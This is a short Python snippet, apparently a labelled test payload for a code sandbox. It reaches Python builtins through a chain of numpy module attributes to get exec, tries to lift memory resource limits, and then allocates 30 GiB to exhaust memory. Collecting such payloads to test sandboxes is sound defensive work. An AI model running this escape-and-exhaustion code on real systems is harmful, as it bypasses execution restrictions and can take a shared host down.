# attempts: resource.setrlimit(RLIMIT_AS, unlimited) first, then a 30 GiB bytearray
# effect: memory
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
B.exec('''
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_RSS):
    soft, hard = resource.getrlimit(limit)
    for new in ((hard, hard), (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
        try:
            resource.setrlimit(limit, new)
        except (ValueError, OSError):
            pass
x = bytearray(30 * 2**30)
''', {})
